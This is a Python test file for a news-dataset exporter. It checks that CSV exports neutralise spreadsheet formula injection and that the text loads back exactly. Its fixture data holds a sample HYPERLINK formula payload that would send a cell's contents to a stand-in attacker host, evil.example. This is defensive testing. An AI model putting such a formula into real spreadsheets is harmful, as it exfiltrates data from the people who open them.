"""CSV exports are safe to open in a spreadsheet (OWASP CSV injection), and load back exactly."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from govnews.output.dataset import load
from govnews.output.schema import TABLES, article_id, content_sha256
from govnews.output.store import Store
from govnews.output.writers import (
    CSV_FORMULA_STARTS,
    csv_safe_text,
    csv_unescape_text,
    export_dataset,
    write_csv,
)

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
RUN = "2024-05-01T020000Z"


def headline_for(char: str) -> str:
    return f'{char}HYPERLINK("http://evil.example/?x="&A1, "Bấm vào đây")'


def author_for(char: str) -> str:
    return f"{char}Nguyễn Thanh"


def article(n: int, headline: str, author: str | None) -> dict:
    url = f"https://baclieu.gov.vn/tin-tuc/{n}"
    body = "Nội dung."
    return {
        "article_id": article_id(url), "url": url, "site": "baclieu", "platform": "generic",
        "category": None, "headline": headline, "summary": None,
        "published_at": "2024-04-30T08:00:00+07:00", "published_at_raw": None, "body": body,
        "author": author, "source": "-Báo Bạc Liêu", "view_count": 12, "visitor_counter": None,
        "images": ["=not-a-formula-inside-a-json-list"], "attachments": [],
        "first_seen_at": "2024-05-01T02:00:00Z", "fetched_at": "2024-05-01T02:00:00Z",
        "content_sha256": content_sha256(headline, body), "warnings": [],
    }


# Text that must come back unchanged and is not a formula: quotes and dangerous characters later on.
HARMLESS = {
    90: ("'=already quoted by its author", "'Thanh"),
    91: ("Hà Nội - Hải Phòng = 120 km", None),
    92: ("''@two quotes", "O'Neil"),
}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory):
    with Store.open(tmp_path_factory.mktemp("safe") / "ds") as opened:
        opened.start_run(RUN, "2024-05-01T02:00:00Z", ["-site"])
        for n, char in enumerate(DANGEROUS):
            opened.upsert_article(article(n, headline_for(char), author_for(char)), run_id=RUN)
        for n, (headline, author) in HARMLESS.items():
            opened.upsert_article(article(n, headline, author), run_id=RUN)
        yield opened


def read_csv_cells(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def by_url(rows: list[dict]) -> dict[str, dict]:
    return {row["url"]: row for row in rows}


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_text_starting_a_formula_is_prefixed(store: Store, tmp_path: Path, excel: bool) -> None:
    export_dataset(store, tmp_path, formats=("csv",), excel=excel)
    raw = (tmp_path / "articles.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == excel
    rows = by_url(read_csv_cells(tmp_path / "articles.csv"))
    for n, char in enumerate(DANGEROUS):
        row = rows[article(n, "x", None)["url"]]
        assert row["headline"] == "'" + headline_for(char), repr(char)
        assert row["author"] == "'" + author_for(char), repr(char)
        assert row["source"] == "'-Báo Bạc Liêu"
    assert rows[article(90, "x", None)["url"]]["headline"] == "''=already quoted by its author"
    assert rows[article(90, "x", None)["url"]]["author"] == "'Thanh"
    assert rows[article(91, "x", None)["url"]]["headline"] == "Hà Nội - Hải Phòng = 120 km"
    assert rows[article(92, "x", None)["url"]]["headline"] == "'''@two quotes"
    assert rows[article(92, "x", None)["url"]]["author"] == "O'Neil"
    first = next(iter(rows.values()))
    assert first["images"] == '["=not-a-formula-inside-a-json-list"]'  # a JSON list starts with [
    assert first["view_count"] == "12"
    assert read_csv_cells(tmp_path / "runs.csv")[0]["sites"] == '["-site"]'


def test_per_run_exports_are_safe_too(store: Store, tmp_path: Path) -> None:
    export_dataset(store, tmp_path, formats=("csv",), excel=True, run_id=RUN)
    rows = read_csv_cells(tmp_path / "runs" / RUN / "articles.csv")
    assert {row["headline"][:2] for row in rows if row["headline"][1:2] in DANGEROUS} == {"'" + c for c in DANGEROUS}


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_raw_csv_keeps_the_exact_text(store: Store, tmp_path: Path, excel: bool) -> None:
    export_dataset(store, tmp_path, formats=("csv",), excel=excel, raw_csv=True)
    rows = by_url(read_csv_cells(tmp_path / "articles.csv"))
    for n, char in enumerate(DANGEROUS):
        row = rows[article(n, "x", None)["url"]]
        assert row["headline"] == headline_for(char) and row["author"] == author_for(char)
    assert rows[article(90, "x", None)["url"]]["headline"] == "'=already quoted by its author"


def test_jsonl_keeps_the_exact_text(store: Store, tmp_path: Path) -> None:
    export_dataset(store, tmp_path, formats=("jsonl",))
    with (tmp_path / "articles.jsonl").open(encoding="utf-8") as handle:
        rows = by_url([json.loads(line) for line in handle])
    for n, char in enumerate(DANGEROUS):
        row = rows[article(n, "x", None)["url"]]
        assert row["headline"] == headline_for(char) and row["author"] == author_for(char)
    assert rows[article(90, "x", None)["url"]]["headline"] == "'=already quoted by its author"


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_load_of_a_safe_csv_export_is_exact(store: Store, tmp_path: Path, excel: bool) -> None:
    export_dataset(store, tmp_path, formats=("csv",), excel=excel)
    from_csv, from_db = load(tmp_path), load(store.path.parent)
    for table in TABLES:
        pd.testing.assert_frame_equal(getattr(from_csv, table), getattr(from_db, table))
    assert set(from_csv.articles["headline"]) >= {headline_for(c) for c in DANGEROUS}


def test_load_of_a_raw_csv_export(store: Store, tmp_path: Path) -> None:
    export_dataset(store, tmp_path, formats=("csv",), raw_csv=True)
    from_db = load(store.path.parent)
    pd.testing.assert_frame_equal(load(tmp_path, raw_csv=True).articles, from_db.articles)
    # read as a safe CSV, only text that starts with quotes and then a formula character changes
    guessed = load(tmp_path).articles.set_index("url")["headline"]
    expected = from_db.articles.set_index("url")["headline"]
    changed = guessed[guessed != expected]
    assert changed.tolist() == ["=already quoted by its author", "'@two quotes"]


def test_numbers_are_never_prefixed(tmp_path: Path) -> None:
    path = tmp_path / "numbers.csv"
    write_csv(path, ["count", "ratio", "text"], [{"count": -5, "ratio": -1.5, "text": "-5"}])
    assert read_csv_cells(path) == [{"count": "-5", "ratio": "-1.5", "text": "'-5"}]


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "ệ", " "]), max_size=6))
def test_unescape_undoes_exactly_what_the_escape_added(text: str) -> None:
    safe = csv_safe_text(text)
    assert csv_unescape_text(safe) == text
    assert not safe.startswith(CSV_FORMULA_STARTS)
    assert safe == text or safe == "'" + text
